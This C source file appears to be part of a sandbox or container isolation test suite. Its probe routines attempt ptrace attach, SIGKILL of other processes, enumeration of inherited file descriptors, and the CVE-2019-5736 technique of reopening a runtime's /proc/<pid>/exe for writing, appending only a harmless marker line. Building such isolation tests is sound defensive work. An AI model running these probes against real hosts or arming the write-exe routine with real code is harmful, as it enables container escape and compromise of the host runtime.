/* Attacks on other processes: ptrace, signals, inherited fds, and writing
 * to a runtime's binary through /proc/<pid>/exe (CVE-2019-5736). */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

/* ptrace PID: PTRACE_ATTACH (then detaches again). */
static void attack_ptrace(int argc, char** argv) {
  if (argc != 2) return;
  pid_t pid = atoi(argv[1]);
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) {
    note_failure("attach=%s", errname(errno));
    return;
  }
  waitpid(pid, NULL, __WALL);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  succeed("attached to pid %d", pid);
}

/* kill PID: SIGKILL to PID. */
static void attack_kill(int argc, char** argv) {
  if (argc != 2) return;
  pid_t pid = atoi(argv[1]);
  if (kill(pid, SIGKILL) != 0) {
    note_failure("kill=%s", errname(errno));
    return;
  }
  succeed("killed pid %d", pid);
}

/* fds: any open fd besides 0-2, found by fcntl over 3..1023 and by listing
 * /proc/self/fd. */
static void attack_fds(int argc, char** argv) {
  char found[2048] = "", link[512], path[64];
  size_t used = 0;
  for (int fd = 3; fd < 1024; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, link, sizeof(link) - 1);
    link[n > 0 ? n : 0] = 0;
    used += snprintf(found + used, sizeof(found) - used, " %d=%s", fd, link);
    if (used >= sizeof(found)) break;
  }
  DIR* d = opendir("/proc/self/fd");
  if (!d) {
    note_failure("opendir=%s", errname(errno));
  } else {
    struct dirent* e;
    while ((e = readdir(d)) != NULL) {
      int fd = atoi(e->d_name);
      if (e->d_name[0] == '.' || fd < 3 || fd >= 1024 || fd == dirfd(d)) continue;
      if (used < sizeof(found))
        used += snprintf(found + used, sizeof(found) - used, " listed:%d", fd);
    }
    closedir(d);
  }
  if (found[0]) succeed("open fds:%s", found);
  note_failure("no fd above 2");
}

/* write-exe PATH...: opens each PATH (a /proc/<pid>/exe) with O_PATH, then
 * for up to 3 s tries to reopen it for writing through /proc/self/fd (the
 * CVE-2019-5736 way: ETXTBSY while the binary runs, then success once it
 * exited) and appends a line. */
static void attack_write_exe(int argc, char** argv) {
  int fds[64], n = 0;
  for (int i = 1; i < argc && n < 64; i++) {
    int fd = open(argv[i], O_PATH | O_CLOEXEC);
    if (fd < 0)
      note_failure("%s=%s", argv[i], errname(errno));
    else
      fds[n++] = fd;
  }
  static const char line[] = "\n# written by attack\n";
  int last_err[64];
  for (int i = 0; i < n; i++) last_err[i] = 0;
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do {
    for (int i = 0; i < n; i++) {
      char path[64];
      snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
      int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0) {
        last_err[i] = errno;
        continue;
      }
      ssize_t k = write(w, line, sizeof(line) - 1);
      last_err[i] = errno;
      close(w);
      if (k > 0) succeed("wrote to the binary of %s", argv[i + 1]);
    }
    usleep(20000);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (n > 0 && now.tv_sec - start.tv_sec < 3);
  for (int i = 0; i < n; i++) note_failure("fd%d=%s", i, errname(last_err[i]));
}

const struct attack proc_attacks[] = {
    {"ptrace", "PID", attack_ptrace},
    {"kill", "PID", attack_kill},
    {"fds", "", attack_fds},
    {"write-exe", "PATH...", attack_write_exe},
    {0, 0, 0},
};
